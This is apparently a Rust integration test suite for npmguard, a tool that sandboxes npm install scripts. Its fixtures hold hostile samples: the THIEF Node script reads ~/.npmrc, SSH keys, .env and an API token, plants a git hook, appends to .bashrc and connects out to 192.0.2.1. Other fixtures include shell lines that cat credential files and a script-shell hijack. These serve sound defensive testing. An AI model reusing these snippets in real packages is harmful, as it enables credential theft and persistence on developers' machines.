//! `npmguard install` and `ci` around the real npm: what honest scripts may do, what
//! npm sees, and how it all ends.

mod harness;

use harness::{Site, users};
use serde_json::json;

#[test]
fn an_honest_script_works_and_leaves_no_denial() {
    for user in users() {
        let mut site = Site::of(user);
        site.package(
            "honest",
            "node -e \"fs.writeFileSync('made', fs.readFileSync('package.json','utf8').length + os.tmpdir())\"",
        );
        let run = site.install();
        run.assert_code(0);
        run.assert_quiet("*");
        let made = site.read("app/node_modules/honest/made").expect("the script's work");
        assert!(made.contains("/tmp-"), "a private temporary directory: {made}");
        assert_eq!(run.events("script_start", "honest", "*").len(), 1, "{user:?}");
        let end = run.events("script_end", "honest", "*");
        assert_eq!(end[0]["detail"]["status"], "exit 0");
        assert_eq!(run.log.last().expect("a log")["kind"], "run_end");
    }
}

#[test]
fn theft_is_refused_named_and_fails_the_run() {
    for user in users() {
        let mut site = Site::of(user);
        site.env("MY_API_TOKEN", "TOKEN-SECRET");
        site.package_with(
            "thief",
            json!({ "scripts": { "postinstall": "node thief.js" } }),
            &[("thief.js", THIEF)],
        );
        site.package("bystander", "echo fine > fine");
        let run = site.install();
        run.assert_code(9);
        let loot = site.read("app/node_modules/thief/loot").expect("the thief ran");
        assert!(!loot.contains("SECRET"), "{user:?}: {loot}");
        for what in ["read", ".npmrc"] {
            run.assert_denied("thief", what);
        }
        run.assert_denied("thief", "id_ed25519");
        run.assert_denied("thief", "/app/.env");
        run.assert_denied("thief", ".bashrc");
        run.assert_denied("thief", ".git/hooks/pre-commit");
        run.assert_denied("thief", "bystander/index.js");
        run.assert_denied("thief", "connect 192.0.2.1:443");
        run.assert_quiet("bystander");
        assert!(site.read("app/.git/hooks/pre-commit").is_none());
        assert_eq!(site.read("home/.bashrc").as_deref(), Some("# rc\n"));
        assert_eq!(site.read("app/node_modules/bystander/fine").as_deref(), Some("fine\n"));
        assert!(run.stderr.contains("thief@1.0.0 postinstall: denied read ~/.npmrc"), "{}", run.stderr);
    }
}

const THIEF: &str = r"
const fs = require('fs'), path = require('path'), os = require('os'), net = require('net');
const tried = (f) => { try { return String(f()); } catch (e) { return e.code; } };
const home = os.homedir(), app = path.resolve('../..');
const loot = [
  tried(() => fs.readFileSync(home + '/.npmrc')), tried(() => fs.readFileSync(home + '/.ssh/id_ed25519')),
  tried(() => fs.readFileSync(app + '/.env')), process.env.MY_API_TOKEN,
  tried(() => fs.appendFileSync(home + '/.bashrc', 'evil')),
  tried(() => fs.writeFileSync(app + '/.git/hooks/pre-commit', 'evil')),
  tried(() => fs.writeFileSync('../bystander/index.js', 'evil')),
];
const s = net.connect({ host: '192.0.2.1', port: 443 });
s.on('error', (e) => { loot.push(e.code); fs.writeFileSync('loot', loot.join('\n')); });
";

#[test]
fn a_failing_script_fails_npm_with_npms_own_code() {
    let mut site = Site::new();
    site.package("broken", "echo to-stdout; echo to-stderr >&2; exit 7");
    let run = site.install();
    run.assert_code(7);
    assert_eq!(run.events("script_end", "broken", "*")[0]["detail"]["status"], "exit 7");
    assert!(run.stderr.contains("to-stderr"), "npm shows the script's output: {}", run.stderr);
}

#[test]
fn an_optional_dependency_may_fail() {
    let mut site = Site::new();
    site.package("fine", "true");
    site.tarball("shaky", json!({ "scripts": { "postinstall": "exit 1" } }), &[], "shaky.tgz");
    site.manifest(json!({
        "dependencies": { "fine": "file:vendor/fine.tgz" },
        "optionalDependencies": { "shaky": "file:vendor/shaky.tgz" }
    }));
    site.install().assert_code(0);
    assert!(!site.path("app/node_modules/shaky").exists());
}

#[test]
fn output_and_foreground_scripts_are_untouched() {
    let mut site = Site::new();
    site.package("chatty", "echo hello-from-script");
    site.manifest(json!({ "dependencies": { "chatty": "file:vendor/chatty.tgz" } }));
    let run = site.guard(&["install", "-q", "--", "--foreground-scripts", "--no-audit", "--no-fund"]);
    run.assert_code(0);
    assert!(run.stdout.contains("hello-from-script"), "{}", run.stdout);
    assert!(run.stdout.contains("added 1 package"), "{}", run.stdout);
    assert!(!run.stdout.contains("npmguard:"), "npmguard writes nothing on stdout");
    assert!(!run.stderr.contains("npmguard:"), "-q is quiet: {}", run.stderr);
}

#[test]
fn scripts_get_their_directory_arguments_umask_and_environment() {
    let mut site = Site::new();
    site.package(
        "look",
        "pwd > where; umask > mask; echo $npm_lifecycle_event $INIT_CWD > env; echo \"${TMPDIR}\" > tmp",
    );
    let run = site.install();
    run.assert_code(0);
    let at =
        |file: &str| site.read(&format!("app/node_modules/look/{file}")).expect("written").trim().to_owned();
    let app = site.path("app").canonicalize().expect("a path");
    assert_eq!(at("where"), app.join("node_modules/look").display().to_string());
    assert_eq!(at("mask"), "0022");
    assert!(at("env").starts_with("postinstall "));
    assert!(!std::path::Path::new(&at("tmp")).exists(), "the private directory goes with the script");
}

#[test]
fn nested_npm_stays_inside_the_scripts_domain() {
    let mut site = Site::new();
    site.package_with(
        "nester",
        json!({ "scripts": { "postinstall": "npm run --silent inner", "inner": "cat ~/.npmrc > stolen; echo ran > inner" } }),
        &[],
    );
    let run = site.install();
    assert_eq!(site.read("app/node_modules/nester/inner").as_deref(), Some("ran\n"));
    assert_eq!(site.read("app/node_modules/nester/stolen").as_deref(), Some(""));
    run.assert_denied("nester", ".npmrc");
    assert_eq!(run.events("script_start", "*", "*").len(), 1, "one script, one domain");
    run.assert_code(9);
}

#[test]
fn the_projects_own_scripts_build_the_project_but_see_no_secrets() {
    for user in users() {
        let site = Site::of(user);
        site.write("app/src/index.js", "module.exports = 1;\n");
        site.manifest(json!({ "scripts": {
            "postinstall": "mkdir -p dist gen && cp src/index.js dist/ && cp src/index.js gen/ && mv gen/index.js gen/i.js; cat .env > dist/stolen; echo x > .git/hooks/pre-commit; true"
        }}));
        let run = site.install();
        assert_eq!(
            site.read("app/dist/index.js").as_deref(),
            Some("module.exports = 1;\n"),
            "{}",
            run.stderr
        );
        assert_eq!(site.read("app/gen/i.js").as_deref(), Some("module.exports = 1;\n"));
        assert_eq!(site.read("app/dist/stolen").as_deref(), Some(""));
        assert!(site.read("app/.git/hooks/pre-commit").is_none());
        run.assert_denied("app", "/app/.env");
        run.assert_denied("app", ".git/hooks/pre-commit");
        assert_eq!(run.events("script_start", "app", "*")[0]["domain"], "root");
        run.assert_code(9);
    }
}

#[test]
fn every_spelling_of_script_shell_loses_to_the_stub() {
    let mut site = Site::new();
    site.write("app/evil-shell", "#!/bin/sh\ntouch \"$HOME/evil-ran\"\n");
    let evil = site.path("app/evil-shell").display().to_string();
    site.write("app/.npmrc", &format!("script-shell={evil}\ngit={evil}\nnode-options=--require {evil}.js\n"));
    for name in ["npm_config_script_shell", "NPM_CONFIG_SCRIPT_SHELL", "npm_config_script-shell"] {
        site.env(name, &evil);
    }
    site.package("plain", "echo ok > ok");
    let run = site.install();
    run.assert_code(0);
    assert_eq!(site.read("app/node_modules/plain/ok").as_deref(), Some("ok\n"));
    assert!(site.read("home/evil-ran").is_none());
}

#[test]
fn run_never_skips_a_script_and_says_so() {
    let mut site = Site::new();
    site.write("app/npmguard.yaml", "version: 1\npackages:\n  noisy: { run: never, reason: banner }\n");
    site.package("noisy", "echo ran > ran");
    let run = site.install();
    run.assert_code(0);
    assert!(site.read("app/node_modules/noisy/ran").is_none());
    assert_eq!(run.events("script_start", "noisy", "logged")[0]["detail"]["skipped"], true);
}

#[test]
fn audit_mode_lets_everything_happen_and_says_what_would_be_denied() {
    let mut site = Site::new();
    site.package("thief", "cat ~/.npmrc > loot; echo x >> ~/.bashrc; true");
    let run = site.guard(&["install", "--mode", "audit", "--", "--no-audit", "--no-fund"]);
    run.assert_code(0);
    assert!(
        site.read("app/node_modules/thief/loot").expect("loot").contains("SECRET"),
        "audit protects nothing"
    );
    let would: Vec<_> = run.events("*", "thief", "would_deny").iter().map(|e| harness::target(e)).collect();
    assert!(
        would.iter().any(|t| t.contains(".npmrc")) && would.iter().any(|t| t.contains(".bashrc")),
        "{would:?}"
    );
    assert!(run.denied("*").is_empty());
    let strict =
        site.guard(&["rebuild", "--mode", "audit", "--fail-on", "would_deny", "--", "--loglevel=error"]);
    strict.assert_code(9);
}

#[test]
fn the_wall_clock_limit_ends_a_script() {
    let mut site = Site::new();
    site.write("app/npmguard.yaml", "version: 1\nscripts:\n  limits: { wall: 1s }\n");
    site.package("sleeper", "sleep 60");
    let began = std::time::Instant::now();
    let run = site.install();
    assert!(began.elapsed().as_secs() < 30, "the script was ended");
    assert_ne!(run.code, 0);
    assert_eq!(run.events("limit", "sleeper", "denied").len(), 1);
}

#[test]
fn nothing_outlives_its_script() {
    for user in users() {
        let mut site = Site::of(user);
        let marker = format!("sleep 61.7{}", std::process::id());
        site.package("daemon", &format!("setsid sh -c '{marker} & {marker}' >/dev/null 2>&1 & true"));
        let run = site.install();
        let left: Vec<_> = run.events("leftover", "daemon", "logged");
        assert!(!left.is_empty(), "the leftovers are reported: {:?}", run.stderr);
        let alive = std::process::Command::new("pgrep").args(["-f", &marker]).output().expect("pgrep");
        assert!(alive.stdout.is_empty(), "{user:?}: {}", String::from_utf8_lossy(&alive.stdout));
    }
}

/// npm before version 9 ran scripts as the owner of the package's directory when it was
/// root itself; the manager here does the same.
#[test]
fn a_manager_that_switches_users_has_its_scripts_guarded_as_those_users() {
    if !harness::is_root() {
        return;
    }
    let mut site = Site::new();
    site.package("whoami", "true");
    site.install().assert_code(0);
    let old_npm = "#!/usr/bin/env node\n\
        const cp = require('child_process'), shell = process.env.npm_config_script_shell;\n\
        const how = { uid: 61235, gid: 61235, cwd: 'node_modules/whoami', stdio: 'inherit' };\n\
        const script = 'id -u > uid; id -G >> uid; cat ~/.npmrc > loot; echo t > $TMPDIR/x && cp $TMPDIR/x tmp; true';\n\
        process.exit(cp.spawnSync(shell, ['-c', script], how).status);\n";
    site.write("bin/npm", old_npm);
    std::fs::set_permissions(site.path("bin/npm"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("mode");
    let dir = site.path("app/node_modules/whoami");
    std::os::unix::fs::chown(&dir, Some(harness::NOBODY), Some(harness::NOBODY)).expect("chown");
    let path = format!("{}:{}", site.path("bin").display(), std::env::var("PATH").expect("PATH"));
    let log = site.path("home/log.jsonl");
    let mut command = site.command(&["npm", "--log", log.to_str().expect("UTF-8"), "whatever"]);
    let output = command.env("PATH", path).output().expect("npmguard starts");
    let run = site.outcome(&output, &log);
    let uid = site.read("app/node_modules/whoami/uid");
    assert_eq!(uid.as_deref(), Some("61235\n61235\n"), "{}", run.stderr);
    assert_eq!(site.read("app/node_modules/whoami/loot").as_deref(), Some(""));
    assert_eq!(site.read("app/node_modules/whoami/tmp").as_deref(), Some("t\n"), "{}", run.stderr);
    run.assert_denied("whoami", ".npmrc");
}

#[test]
fn the_shell_of_the_users_own_settings_is_used_inside_the_domain() {
    if !std::path::Path::new("/bin/bash").exists() {
        return;
    }
    let mut site = Site::new();
    let npmrc = format!("{}script-shell=/bin/bash\n", site.read("home/.npmrc").expect("settings"));
    site.write("home/.npmrc", &npmrc);
    site.package("bashism", "[[ a == a ]] && echo ${BASH_VERSION:0:1} > out; cat ~/.npmrc > loot; true");
    let run = site.install();
    assert!(
        site.read("app/node_modules/bashism/out").is_some_and(|v| !v.trim().is_empty()),
        "{}",
        run.stderr
    );
    run.assert_denied("bashism", ".npmrc");
    let refused = site.guard(&["install", "--", "--script-shell=/bin/bash"]);
    refused.assert_code(2);
}

#[test]
fn npm_itself_runs_quietly_under_run() {
    let site = Site::new();
    site.manifest(json!({ "scripts": { "hello": "echo hello-from-run" } }));
    let run = site.guard(&["run", "--", "npm", "run", "--silent", "hello"]);
    run.assert_code(0);
    assert_eq!(run.stdout, "hello-from-run\n");
    run.assert_quiet("*");
}

#[test]
fn the_manager_writes_the_project_its_caches_and_nothing_else() {
    let site = Site::new();
    site.manifest(json!({}));
    let outside = site.path("home/Documents");
    std::fs::create_dir(&outside).expect("a directory");
    let run = site.guard(&[
        "npm",
        "pack",
        "--loglevel=error",
        "--pack-destination",
        outside.to_str().expect("UTF-8"),
    ]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert_eq!(std::fs::read_dir(&outside).expect("a directory").count(), 0);
    site.guard(&["npm", "pack", "--loglevel=error"]).assert_code(0);
}
